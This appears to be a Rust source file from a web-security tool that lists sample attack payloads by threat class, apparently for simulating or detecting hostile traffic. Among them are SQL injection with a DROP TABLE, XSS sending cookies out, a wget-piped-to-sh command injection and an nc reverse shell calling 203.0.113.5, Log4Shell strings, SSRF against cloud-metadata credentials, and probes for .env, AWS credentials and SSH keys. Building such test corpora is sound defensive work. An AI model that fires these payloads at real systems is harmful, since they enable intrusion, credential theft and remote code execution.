//! What attackers send, by class. `{n}` stands for a number that changes from request to request.

use bartizan_model::ThreatClass;

/// How a payload travels.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Carrier {
    /// The value of this parameter of this path, percent-encoded.
    Query(&'static str, &'static str),
    /// The target is the payload as it stands.
    Target,
    /// The user agent of a request for this path.
    Agent(&'static str),
    /// The referer of a request for this path.
    Referer(&'static str),
}

use Carrier::{Agent, Query, Referer, Target};

const SQL: [(Carrier, &str); 9] = [
    (Query("/search", "q"), "mug' OR '1'='1"),
    (Query("/search", "q"), "x' UNION SELECT NULL,email,password_hash FROM customers-- -"),
    (
        Query("/c/coffee", "page"),
        "{n} AND 1=2 UNION ALL SELECT 1,2,table_name FROM information_schema.tables#",
    ),
    (Query("/api/products", "id"), "{n}) AND (SELECT {n} FROM (SELECT(SLEEP(5)))a) AND (1=1"),
    (Query("/api/products", "id"), "{n}; DROP TABLE carts; --"),
    (Query("/c/books", "sort"), "price,(CASE WHEN (SELECT LENGTH(user()))>{n} THEN 1 ELSE SLEEP(3) END)"),
    (Query("/api/products", "id"), "-{n} OR EXTRACTVALUE(1,CONCAT(0x7e,VERSION()))"),
    (Query("/orders", "number"), "'||(SELECT pg_sleep(4))||'"),
    (Target, "/c/tea?page=1%2527%2520oR%25201%253D1--"),
];

const XSS: [(Carrier, &str); 8] = [
    (Query("/search", "q"), "<script>alert(document.cookie)</script>"),
    (Query("/search", "q"), "\"><img src=x onerror=alert({n})>"),
    (Query("/search", "q"), "<svg/onload=fetch('//203.0.113.5/c?'+document.cookie)>"),
    (Query("/login", "next"), "javascript:alert(document.domain)"),
    (Query("/c/gifts", "sort"), "'-prompt({n})-'"),
    (Query("/search", "q"), "<details open ontoggle=confirm({n})>"),
    (Query("/search", "q"), "<iframe srcdoc=\"<script>parent.alert({n})</script>\">"),
    (Referer("/"), "https://shop.example.com/<script>document.location='//203.0.113.5'</script>"),
];

const PATH_TRAVERSAL: [(Carrier, &str); 7] = [
    (Target, "/media/../../../../../../etc/passwd"),
    (Target, "/static/..%2f..%2f..%2f..%2fetc%2fshadow"),
    (Target, "/static/%2e%2e/%2e%2e/%2e%2e/%2e%2e/proc/self/environ"),
    (Target, "/media/..%252f..%252f..%252fetc%252fhosts"),
    (Target, "/static/..%c0%af..%c0%af..%c0%afetc/passwd"),
    (Query("/api/download", "file"), "../../../../var/log/nginx/access.log"),
    (Query("/api/download", "file"), "..\\..\\..\\windows\\win.ini"),
];

const FILE_INCLUSION: [(Carrier, &str); 5] = [
    (Query("/index.php", "page"), "php://filter/convert.base64-encode/resource=config.php"),
    (Query("/index.php", "page"), "http://203.0.113.5/shell{n}.txt?"),
    (Query("/index.php", "template"), "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+"),
    (Query("/index.php", "page"), "expect://id"),
    (Query("/index.php", "lang"), "phar:///tmp/upload{n}.jpg/x.php"),
];

const COMMAND_INJECTION: [(Carrier, &str); 6] = [
    (Query("/api/ping", "host"), "127.0.0.1; cat /etc/passwd"),
    (Query("/api/ping", "host"), "127.0.0.1 && wget http://203.0.113.5/x{n}.sh -O- | sh"),
    (Query("/api/export", "name"), "report`id`"),
    (Query("/api/export", "name"), "a$(curl${IFS}203.0.113.5/{n})"),
    (
        Target,
        "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+http%3A%2F%2F203.0.113.5%2Fa+-O-|sh%60)",
    ),
    (Agent("/cgi-bin/status"), "() { :; }; /bin/bash -c 'nc 203.0.113.5 {n} -e /bin/sh'"),
];

const CODE_INJECTION: [(Carrier, &str); 4] = [
    (
        Query("/index.php", "s"),
        "/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id",
    ),
    (Target, "/?a=fetch&content=<?php+file_put_contents('x{n}.php','<?php+eval($_POST[1]);?>');?>"),
    (Query("/api/rules", "filter"), "eval(base64_decode('c3lzdGVtKCdpZCcpOw=='))"),
    (Target, "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php?x=%3C%3Fphp%20system('id')%3B%3F%3E"),
];

const TEMPLATE_INJECTION: [(Carrier, &str); 5] = [
    (Query("/search", "q"), "{{7*{n}}}"),
    (Query("/search", "q"), "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"),
    (
        Query("/api/preview", "text"),
        "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    ),
    (Query("/api/preview", "text"), "{{''.__class__.__mro__[1].__subclasses__()}}"),
    (Query("/api/preview", "text"), "<%= system('id') %>"),
];

const EXPRESSION_INJECTION: [(Carrier, &str); 5] = [
    (Agent("/"), "${jndi:ldap://203.0.113.5:1389/a{n}}"),
    (Query("/search", "q"), "${${lower:j}ndi:${lower:l}dap://203.0.113.5/x}"),
    (Query("/login", "next"), "%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}"),
    (Query("/api/rules", "filter"), "T(java.lang.Runtime).getRuntime().exec('id')"),
    (
        Target,
        "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%29%29%7D/",
    ),
];

const DESERIALIZATION: [(Carrier, &str); 3] = [
    (
        Query("/api/session/restore", "state"),
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhw",
    ),
    (
        Query("/index.php", "data"),
        "O:8:\"Customer\":1:{s:4:\"hook\";O:6:\"System\":1:{s:3:\"cmd\";s:2:\"id\";}}",
    ),
    (Query("/api/session/restore", "state"), "gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="),
];

const SSRF: [(Carrier, &str); 6] = [
    (Query("/api/preview", "url"), "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    (Query("/api/preview", "url"), "http://127.0.0.1:{n}/admin"),
    (Query("/api/preview", "url"), "gopher://127.0.0.1:6379/_FLUSHALL"),
    (Query("/api/preview", "url"), "http://metadata.google.internal/computeMetadata/v1/instance/"),
    (Query("/api/preview", "url"), "file:///etc/passwd"),
    (Query("/api/preview", "url"), "http://[::ffff:7f00:1]:8080/"),
];

const XXE: [(Carrier, &str); 3] = [
    (Query("/api/import", "xml"), "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>"),
    (
        Query("/api/import", "xml"),
        "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % d SYSTEM \"http://203.0.113.5/{n}.dtd\"> %d;]><r/>",
    ),
    (
        Query("/soap", "body"),
        "<!DOCTYPE x [<!ENTITY a \"lol\"><!ENTITY b \"&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;\">]><x>&c;</x>",
    ),
];

const NOSQL: [(Carrier, &str); 4] = [
    (Target, "/api/users?name[$ne]=x&password[$ne]=x"),
    (Query("/api/products", "filter"), "{\"$where\":\"sleep({n})||true\"}"),
    (Target, "/api/orders?customer[$regex]=^a.*&limit=1"),
    (Query("/api/products", "filter"), "';return this.price<{n};var a='"),
];

const LDAP_XPATH: [(Carrier, &str); 4] = [
    (Query("/api/staff", "name"), "*)(uid=*))(|(uid=*"),
    (Query("/api/staff", "name"), "admin)(&(objectClass=*)(userPassword=*)"),
    (Query("/api/catalog", "path"), "' or count(/*)={n} or 'a'='b"),
    (Query("/api/catalog", "path"), "'] | //user[name/text()='admin'] | //a['"),
];

const HEADER_INJECTION: [(Carrier, &str); 3] = [
    (Target, "/login?next=%2F%0d%0aSet-Cookie:%20session=evil{n}"),
    (Target, "/c/tea%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html"),
    (Target, "/redirect?to=%E5%98%8A%E5%98%8DLocation:%20//203.0.113.5"),
];

const SCANNER: [(Carrier, &str); 22] = [
    (Target, "/.env"),
    (Target, "/.git/config"),
    (Target, "/wp-login.php"),
    (Target, "/wp-content/plugins/wp-file-manager/readme.txt"),
    (Target, "/xmlrpc.php"),
    (Target, "/phpmyadmin/index.php"),
    (Target, "/.aws/credentials"),
    (Target, "/actuator/env"),
    (Target, "/server-status"),
    (Target, "/backup.sql"),
    (Target, "/config.php.bak"),
    (Target, "/.DS_Store"),
    (Target, "/boaform/admin/formLogin"),
    (Target, "/solr/admin/info/system"),
    (Target, "/HNAP1/"),
    (Target, "/owa/auth/logon.aspx"),
    (Target, "/manager/html"),
    (Target, "/.svn/entries"),
    (Target, "/debug/pprof/"),
    (Target, "/telescope/requests"),
    (Target, "/vendor/.env"),
    (Target, "/id_rsa"),
];

/// The payloads of a class; none for classes that are made of repetition or of policy.
pub(crate) fn of(class: ThreatClass) -> &'static [(Carrier, &'static str)] {
    match class {
        ThreatClass::SqlInjection => &SQL,
        ThreatClass::Xss => &XSS,
        ThreatClass::PathTraversal => &PATH_TRAVERSAL,
        ThreatClass::FileInclusion => &FILE_INCLUSION,
        ThreatClass::CommandInjection => &COMMAND_INJECTION,
        ThreatClass::CodeInjection => &CODE_INJECTION,
        ThreatClass::TemplateInjection => &TEMPLATE_INJECTION,
        ThreatClass::ExpressionInjection => &EXPRESSION_INJECTION,
        ThreatClass::Deserialization => &DESERIALIZATION,
        ThreatClass::Ssrf => &SSRF,
        ThreatClass::Xxe => &XXE,
        ThreatClass::Nosql => &NOSQL,
        ThreatClass::LdapXpath => &LDAP_XPATH,
        ThreatClass::HeaderInjection => &HEADER_INJECTION,
        ThreatClass::Scanner => &SCANNER,
        ThreatClass::Ddos | ThreatClass::BruteForce | ThreatClass::Policy | ThreatClass::Anomaly => &[],
    }
}
